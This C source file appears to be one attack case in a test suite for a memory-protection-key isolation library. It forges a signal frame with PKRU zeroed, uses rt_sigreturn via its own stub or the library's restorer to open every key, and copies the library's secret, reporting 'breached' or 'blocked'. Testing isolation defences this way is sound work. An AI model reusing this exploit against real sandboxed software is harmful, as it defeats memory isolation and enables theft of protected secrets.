/* A forged signal frame: rt_sigreturn loads every register, PKRU included,
 * from memory the caller wrote.  The frame is copied from a real signal,
 * then given PKRU = 0 (every key open) and a new instruction pointer.
 * sigreturn own: the program's own syscall instruction;
 * sigreturn restorer: through the restorer libprotect installs. */
#define _GNU_SOURCE
#include "attack.h"

#include <signal.h>
#include <stdint.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>

static ucontext_t frame __attribute__((aligned(64))), back __attribute__((aligned(64)));
static uint8_t fpstate[16384] __attribute__((aligned(64))), fpstate_back[16384] __attribute__((aligned(64)));
static uint8_t stolen[VAULT_SECRET_LEN];
static void *restorer;
static struct vault_cell *cell; /* looked up before: the gate would refuse forged rights */
static uint8_t stack[65536] __attribute__((aligned(16)));

static void copy_frame(int sig, siginfo_t *si, void *ctx)
{
    ucontext_t *uc = ctx;
    frame = *uc;
    uint32_t size;
    memcpy(&size, (uint8_t *)uc->uc_mcontext.fpregs + 464 + 4, 4); /* sw_reserved.extended_size */
    if (size > sizeof fpstate)
        size = sizeof fpstate;
    memcpy(fpstate, uc->uc_mcontext.fpregs, size);
    memcpy(fpstate_back, uc->uc_mcontext.fpregs, size);
    frame.uc_mcontext.fpregs = (fpregset_t)fpstate;
    back = frame;
    back.uc_mcontext.fpregs = (fpregset_t)fpstate_back;
}

static void check_stolen(void)
{
    if (vault_matches(VAULT_DATA, stolen))
        breached("read the library's secret with rights from a forged signal frame");
    blocked("what was read is not the secret");
}

/* Runs with every key open (if the forged frame was restored): copies the
 * secret, then a second frame puts the application's rights back so that
 * the library's own gate can confirm the theft. */
static void after_sigreturn(void)
{
    memcpy(stolen, cell->secret, sizeof stolen);
    if (restorer)
        __asm__ volatile("mov %0, %%rsp\n jmp *%1" ::"r"(&back), "r"(restorer) : "memory");
    check_stolen();
}

/* rsp = the frame, then rt_sigreturn from TARGET (a syscall instruction
 * sequence); returns its result if it comes back. */
__attribute__((noinline)) static long sigreturn_via(void *target)
{
    long rax;
    __asm__ volatile("mov %%rsp, %%rbx\n"
                     "mov %1, %%rsp\n"
                     "mov $15, %%eax\n"
                     "call *%2\n"
                     "mov %%rbx, %%rsp\n"
                     : "=a"(rax)
                     : "r"(&frame), "r"(target)
                     : "rbx", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory");
    return rax;
}

__asm__(".text\n"
        "own_sigreturn:\n"
        "    add $8, %rsp\n" /* drop the call's return address: rsp = frame */
        "    mov $15, %eax\n"
        "    syscall\n"
        "    sub $8, %rsp\n"
        "    ret\n");
void own_sigreturn(void);

int main(int argc, char **argv)
{
    vault_open();
    cell = vault_address(VAULT_DATA);
    struct sigaction sa = {.sa_sigaction = copy_frame, .sa_flags = SA_SIGINFO};
    sigemptyset(&sa.sa_mask);
    sigaction(SIGUSR1, &sa, NULL);
    raise(SIGUSR1);
    xsave_open_every_key(fpstate);
    frame.uc_mcontext.gregs[REG_RIP] = (greg_t)after_sigreturn;
    frame.uc_mcontext.gregs[REG_RSP] = (greg_t)(stack + sizeof stack - 8);
    back.uc_mcontext.gregs[REG_RIP] = (greg_t)check_stolen;
    back.uc_mcontext.gregs[REG_RSP] = (greg_t)(stack + sizeof stack - 8);
    void *target = (void *)own_sigreturn;
    if (argc > 1 && strcmp(argv[1], "restorer") == 0) {
        struct { void *handler; unsigned long flags; void *restorer; uint64_t mask; } k;
        syscall(SYS_rt_sigaction, SIGUSR1, NULL, &k, 8);
        /* the restorer is mov $15, %eax; syscall: enter it with rsp = frame */
        restorer = k.restorer;
        target = (uint8_t *)k.restorer;
        __asm__ volatile("mov %0, %%rsp\n jmp *%1" ::"r"(&frame), "r"(target) : "memory");
    }
    long r = sigreturn_via(target);
    char msg[96];
    snprintf(msg, sizeof msg, "rt_sigreturn refused (%ld)", r);
    blocked(msg);
}
